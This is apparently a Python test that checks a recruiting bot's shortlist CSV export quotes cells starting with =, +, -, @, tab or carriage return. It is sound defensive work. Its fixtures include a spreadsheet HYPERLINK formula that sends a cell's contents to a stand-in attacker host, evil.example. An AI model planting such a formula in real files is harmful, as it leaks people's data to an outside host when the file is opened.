"""A shortlist export opened in a spreadsheet runs no formula planted in a name or a note."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from bot.tools import ToolContext
from talent.importer import import_file
from tests.talent.conftest import message, profile, write_jsonl

FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"cv")', "+91 98200 00000", "@SUM(A1)")


async def test_cells_that_would_be_formulas_are_quoted(services, tmp_path: Path, prefix) -> None:
    ids = [prefix + "f1", prefix + "f2", prefix + "f3"]
    records = [
        profile(ids[0], name=FORMULAS[0], city="-2+3"),
        profile(ids[1], name="\tTabbed", city="\rReturned"),
        profile(ids[2], name="Plain Name", city="Pune"),
    ]
    await import_file(services, write_jsonl(tmp_path / "f.jsonl", records))
    ctx = ToolContext(message(prefix + "ws"), services)
    run = services.tools.run
    await run("shortlist_add", {"talent": ids, "role": "Formula Role", "note": FORMULAS[1]}, ctx)
    await run("shortlist_note", {"talent": ids[2], "note": FORMULAS[2]}, ctx)
    exported = await run("shortlist_export", {}, ctx)
    rows = list(csv.DictReader(io.StringIO(exported.content["csv"])))
    cells = [value for row in rows for value in row.values()]
    dangerous = [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert dangerous == []
    by_id = {r["talent_id"]: r for r in rows}
    assert by_id[ids[0]]["name"] == "'" + FORMULAS[0]  # still readable, just inert
    assert by_id[ids[0]]["city"] == "'-2+3"
    assert by_id[ids[2]]["name"] == "Plain Name" and by_id[ids[2]]["note"] == "'" + FORMULAS[2]
